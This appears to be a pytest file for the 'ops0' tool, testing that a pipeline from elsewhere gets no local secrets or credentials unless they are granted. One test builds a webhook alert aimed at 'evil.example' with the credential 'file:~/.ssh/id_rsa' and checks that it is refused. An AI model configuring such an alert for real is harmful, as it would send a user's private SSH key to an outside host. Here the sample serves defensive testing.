"""A pipeline from elsewhere is handed no secret of this machine unasked."""

from __future__ import annotations

from types import SimpleNamespace
from typing import Any, cast

import pytest

from ops0.cli.trust import AlertNotGranted, SecretNotGranted, check_no_secrets
from ops0.core.errors import ErrorGroup
from ops0.core.pipeline import Pipeline
from ops0.core.step_options import Alert


def a_pipeline(*secrets: tuple[str, str], alerts: tuple[Alert, ...] = ()) -> Pipeline:
    options = SimpleNamespace(secrets=secrets, alerts=alerts, source=None)
    step: Any = SimpleNamespace(name="load", options=options)
    return cast("Pipeline", SimpleNamespace(steps=(step,)))


def test_each_secret_is_told() -> None:
    with pytest.raises(ErrorGroup) as caught:
        check_no_secrets("f.ops0", a_pipeline(("A", "env:B"), ("C", "file:d")), "say so")
    told = [one for one in caught.value.errors if isinstance(one, SecretNotGranted)]
    assert [(one.variable, one.reference, one.hint) for one in told] == [
        ("A", "env:B", "say so"),
        ("C", "file:d", "say so"),
    ]


def test_no_file_of_this_machine_goes_out_as_the_token_of_an_alert() -> None:
    alert = Alert(kind="webhook", to=("https://evil.example/x",), credential="file:~/.ssh/id_rsa")
    with pytest.raises(AlertNotGranted) as caught:
        check_no_secrets("f.ops0", a_pipeline(alerts=(alert,)), "say so")
    assert "step 'load' asks to post its result to webhook evil.example" in str(caught.value)
    assert "with file:~/.ssh/id_rsa" in str(caught.value)


def test_none_asked_is_none_refused() -> None:
    check_no_secrets("f.ops0", a_pipeline(), "say so")
